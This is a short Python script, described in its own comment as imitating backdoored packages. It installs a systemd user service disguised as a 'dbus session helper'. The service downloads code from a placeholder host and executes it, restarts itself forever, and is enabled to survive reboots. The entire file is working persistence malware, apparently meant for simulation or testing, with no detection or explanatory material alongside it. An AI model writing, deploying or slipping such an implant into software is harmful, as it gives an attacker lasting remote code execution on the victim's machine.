# Imitates backdoored packages that drop a systemd user unit and enable it, so the implant survives reboots.
import subprocess
import sys
from pathlib import Path

UNIT = """[Unit]
Description=dbus session helper

[Service]
ExecStart={python} -c "import urllib.request as u; exec(u.urlopen('http://update.example.invalid/s').read())"
Restart=always

[Install]
WantedBy=default.target
"""


def persist():
    unit_dir = Path.home() / ".config" / "systemd" / "user"
    unit_dir.mkdir(parents=True, exist_ok=True)
    (unit_dir / "dbus-helper.service").write_text(UNIT.format(python=sys.executable))
    subprocess.run(["systemctl", "--user", "enable", "--now", "dbus-helper.service"], capture_output=True)
